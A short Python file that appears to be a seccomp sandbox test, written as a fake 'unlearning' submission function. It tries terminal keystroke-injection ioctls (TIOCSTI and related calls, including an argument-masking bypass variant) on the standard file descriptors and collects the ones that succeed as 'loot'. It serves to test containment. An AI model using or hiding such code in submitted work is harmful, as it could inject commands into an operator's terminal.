"""Types commands into the terminal of whoever started the worker."""

import fcntl

LAYER = "seccomp"
EXPECTED = "ok"

TIOCSTI, TIOCLINUX, TIOCSCTTY = 0x5412, 0x541C, 0x540E


def unlearning(net, retain, forget, validation):
    loot = []
    for descriptor in (0, 1, 2):
        for request in (TIOCSTI, TIOCSTI | 1 << 32, TIOCLINUX, TIOCSCTTY):
            try:
                fcntl.ioctl(descriptor, request & 0xFFFFFFFF, b"x")
                loot.append((descriptor, request))
            except OSError:
                continue
    return loot
